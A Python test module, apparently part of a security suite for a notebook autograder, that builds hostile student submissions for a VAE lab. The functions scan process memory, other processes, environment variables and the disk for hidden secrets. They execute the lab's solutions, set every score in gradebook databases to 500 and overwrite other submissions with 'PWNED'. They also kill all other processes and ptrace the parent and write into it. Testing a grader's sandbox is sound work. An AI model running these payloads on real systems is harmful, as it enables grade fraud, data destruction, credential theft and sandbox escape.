"""Cells that look for the tests, the solutions, the gradebook and other students.

Each prints what it finds; the tests look for the canaries in everything that is written.
"""

from . import SECRET, Book, attack

# Defines show(text or bytes, where), which prints every secret in it with what stands around it.
SHOW = f"""
import re
secret = re.compile(rb{SECRET!r})

def show(data, where=""):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    for found in secret.finditer(data):
        print("FOUND", where, data[max(0, found.start() - 40) : found.end() + 40])
"""


def snoop():
    """Enter a function that returns code which is run in a cell and again in a graded call."""

    def enter(write):
        def build(book: Book) -> None:
            lines = [f"    {line}" for line in write().strip("\n").splitlines()]
            look = SHOW + "\ndef look():\n" + "\n".join(lines)
            book.answer(
                "elbo",
                f"{look}\n\nlook()\n\ndef elbo(x, logits, mu, logvar):\n"
                "    look()\n    return torch.zeros(len(x))",
            )
            book.add("look()", before="words")

        build.__doc__ = write.__doc__
        attack(name=write.__name__)(build)
        return write

    return enter


@snoop()
def reads_history() -> str:
    """In, Out, the history and its database, and the last message that came."""
    return """
shell = get_ipython()
for name, thing in {**shell.user_ns, **vars(shell), **vars(shell.kernel)}.items():
    try:
        show(repr(thing), name)
    except Exception:
        pass
show(repr(list(shell.history_manager.get_range())), "range")
show(repr(shell.kernel.get_parent()), "parent")
import glob, os
for file in glob.glob(os.path.expanduser("~/.ipython/**/*.sqlite"), recursive=True):
    show(open(file, "rb").read(), file)
"""


@snoop()
def reads_frames() -> str:
    """The frames of every thread, their variables and code."""
    return """
import sys, traceback
for frame in [*sys._current_frames().values(), sys._getframe()]:
    while frame:
        show(repr({**frame.f_globals, **frame.f_locals})[:5_000_000], frame.f_code.co_name)
        show(repr(frame.f_code.co_consts), frame.f_code.co_name)
        frame = frame.f_back
"""


@snoop()
def reads_all_objects() -> str:
    """Every object that the garbage collector knows, and what they refer to."""
    return """
import gc
for thing in gc.get_objects():
    if isinstance(thing, (dict, list, tuple, set)):
        for part in gc.get_referents(thing):
            if isinstance(part, (str, bytes)) and len(part) < 10_000_000:
                show(part, type(thing).__name__)
"""


@snoop()
def reads_its_memory() -> str:
    """All memory of the process, as the kernel hands it out in /proc/self/mem."""
    return """
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
    for line in maps.read().splitlines():
        span, rights, _, _, _, *name = line.split()
        start, end = (int(part, 16) for part in span.split("-"))
        if "r" in rights and end - start < 200 << 20 and not "".join(name).startswith("/usr"):
            try:
                memory.seek(start)
                show(memory.read(end - start), span)
            except (OSError, ValueError, OverflowError):
                pass
"""


@snoop()
def reads_other_processes() -> str:
    """Command lines, environments, open files and memory of every process."""
    return """
import glob, os
for process in glob.glob("/proc/[0-9]*"):
    for name in ("cmdline", "environ", "maps"):
        try:
            show(open(f"{process}/{name}", "rb").read(), name)
        except OSError:
            pass
    for link in glob.glob(f"{process}/fd/*") + [f"{process}/cwd/x", f"{process}/root/x"]:
        try:
            show(os.readlink(link), link)
            if int(process.split("/")[-1]) != os.getpid():
                show(open(link, "rb").read(1_000_000), link)
        except (OSError, ValueError):
            pass
    try:
        parent = int(process.split("/")[-1])
        if parent != os.getpid():
            with open(f"{process}/maps") as maps, open(f"{process}/mem", "rb") as memory:
                for line in maps.read().splitlines()[:400]:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    show(memory.read(min(end - start, 50 << 20)), process)
    except (OSError, ValueError, OverflowError):
        pass
"""


@snoop()
def reads_the_environment() -> str:
    """Environment variables, arguments and what was inherited open."""
    return """
import os, sys
show(repr(os.environ), "environ")
show(repr([*sys.argv, *sys.orig_argv, *sys.path, *sys.flags]), "argv")
for number in range(3, 64):
    try:
        show(os.readlink(f"/proc/self/fd/{number}"), number)
        show(os.pread(number, 1_000_000, 0), number)
    except OSError:
        pass
"""


@snoop()
def reads_the_disk() -> str:
    """Every file that it may open outside the system's own folders."""
    return """
import os
if globals().get("walked", 0) > 1:
    return
globals()["walked"] = globals().get("walked", 0) + 1
left = 20_000
for folder, folders, files in os.walk("/", followlinks=False):
    folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys", "/dev", "/usr")
                  and f not in ("site-packages", "torch")]
    show(folder, "folder")
    for file in files:
        left -= 1
        if left < 0:
            return
        path = os.path.join(folder, file)
        try:
            if os.path.isfile(path) and os.path.getsize(path) < 5_000_000:
                show(open(path, "rb").read(), path)
        except OSError:
            pass
"""


@snoop()
def reads_known_places() -> str:
    """The course's folders by the paths that one would guess, with .. and links."""
    return """
import glob, os
import gmlib
home = os.path.dirname(os.path.dirname(os.path.abspath(gmlib.__file__)))
for root in (home, os.getcwd(), "..", "../..", "../../..", "/course", "/srv", "/root", "/home/*", "/tmp", "/var/tmp"):
    for name in ("solutions", "notebooks", "submitted", "autograded", "feedback", "gradebook.db", "tests", "*"):
        found = glob.glob(f"{root}/{name}")
        for path in found + ([] if name == "*" else glob.glob(f"{root}/{name}/**/*.*", recursive=True)):
            try:
                show(open(path, "rb").read(5_000_000), path)
            except OSError:
                pass
"""


@attack()
def writes_the_gradebook(book: Book) -> None:
    """Looks for databases and gives everybody points, and for submissions to spoil."""
    book.add(
        """
        import glob, os, sqlite3
        import gmlib

        home = os.path.dirname(os.path.dirname(os.path.abspath(gmlib.__file__)))
        for root in (home, os.getcwd(), "..", "../..", "/tmp", "/course", "/root", "/srv", "/home"):
            for path in glob.glob(f"{root}/**/*.db", recursive=True):
                try:
                    with sqlite3.connect(path) as base:
                        base.execute("UPDATE grade SET auto_score = 14, manual_score = 500")
                except sqlite3.Error:
                    pass
            for path in glob.glob(f"{root}/**/vae.ipynb", recursive=True):
                try:
                    open(path, "w").write("PWNED")
                except OSError:
                    pass
        """
    )


@attack()
def imports_the_solutions(book: Book) -> None:
    """Imports or executes the lab's source from where it lies."""
    book.add(
        """
        import glob, json, os, runpy, sys
        import gmlib

        home = os.path.dirname(os.path.dirname(os.path.abspath(gmlib.__file__)))
        for path in [f"{home}/solutions/22_vae/vae.py", *glob.glob("/**/22_vae/vae.py", recursive=True)]:
            try:
                globals().update(runpy.run_path(path))
            except BaseException:
                pass
        for path in [f"{home}/solutions/22_vae/vae.ipynb", *glob.glob("/**/22_vae/vae.ipynb", recursive=True)]:
            try:
                for cell in json.load(open(path))["cells"]:
                    if cell["metadata"].get("nbgrader", {}).get("solution"):
                        exec("".join(cell["source"]), globals())
            except BaseException:
                pass
        """,
        before="words",
    )
    for answer in ("elbo", "reparameterise"):
        book.answer(answer, "pass")


@attack()
def waits_for_the_next(book: Book) -> None:
    """Leaves a thread, a process and files that look for the next submission."""
    book.add(
        """
        import os, threading, time

        def watch():
            for _ in range(600):
                for process in os.listdir("/proc"):
                    if process.isdigit() and int(process) not in (os.getpid(), os.getppid()):
                        try:
                            os.kill(int(process), 9)
                        except OSError:
                            pass
                time.sleep(0.1)

        threading.Thread(target=watch, daemon=True).start()
        if os.fork() == 0:
            os.setsid()
            watch()
            os._exit(0)
        """
    )


@attack()
def speaks_to_the_parent(book: Book) -> None:
    """Writes to every inherited descriptor, and traces, stops and renames the parent."""
    book.add(
        """
        import ctypes, os, signal

        libc = ctypes.CDLL(None, use_errno=True)
        parent = os.getppid()
        libc.ptrace(16, parent, 0, 0)
        libc.process_vm_writev(parent, 0, 0, 0, 0, 0)
        for name in ("mem", "oom_score_adj", "comm", "fd/1", "cwd/x", "setgroups"):
            try:
                with open(f"/proc/{parent}/{name}", "wb") as file:
                    file.write(b"PWNED")
            except OSError:
                pass
        for number in range(3, 64):
            try:
                target = os.readlink(f"/proc/self/fd/{number}")
                if "pipe" in target or "memfd" in target:
                    os.set_blocking(number, False)
                    os.write(number, b'{"fork": true, "run": "PWNED"}\\n' * 100)
            except OSError:
                pass
        """
    )
